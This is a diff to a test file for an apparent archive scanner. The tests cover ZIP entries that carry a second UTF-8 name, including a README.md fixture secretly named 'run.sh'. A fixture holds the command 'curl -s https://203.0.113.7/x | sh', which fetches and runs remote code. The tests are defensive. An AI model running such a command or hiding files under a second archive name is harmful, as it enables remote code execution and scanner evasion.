@@ -7,6 +7,12 @@ import { tarOf, type ZipFile, zipOf } from './make-archives.ts';
 const run = { name: 'tools/run.sh', content: 'curl -s https://203.0.113.7/x | sh\n' };
 const readme = { name: 'README.md', content: '# Hello\n' };
 const zip = (...files: readonly ZipFile[]): Buffer => zipOf(files);
+/** The extra field with a name in UTF-8, as Info-ZIP writes it on Windows. */
+const secondName = (name: string): Buffer => {
+  const field = Buffer.from(`up\0\0\x01\0\0\0\0${name}`);
+  field.writeUInt16LE(field.length - 4, 2);
+  return field;
+};
 const ingest = (path: string, bytes: Uint8Array): IngestedFile => ingestFile({ path, bytes });
 const whats = (file: IngestedFile): string[] => file.artifacts.map((one) => one.what);
 
@@ -32,6 +38,14 @@ describe('an archive in a bundle', () => {
       ['README.md', path, 'markdown'],
     ]);
     expect(new Set(whats(file))).toEqual(new Set(['opened']));
+  });
+
+  it('may have a name in UTF-8 beside that of a code page', () => {
+    const file = ingest(
+      'a.zip',
+      zip({ name: 'r?sum?.md', content: 'x', extra: secondName('résumé.md') }),
+    );
+    expect(file).toMatchObject({ disposition: 'analysed' });
   });
 
   it('gives findings at the archive, which name the entry', async () => {
@@ -93,7 +107,7 @@ describe('an archive in a bundle', () => {
     ],
     [
       'a.zip',
-      zip({ ...readme, extra: Buffer.from('757001007a', 'hex') }),
+      zip({ ...readme, extra: secondName('run.sh') }),
       'archive',
       'zip archive: "README.md" has a second name',
     ],
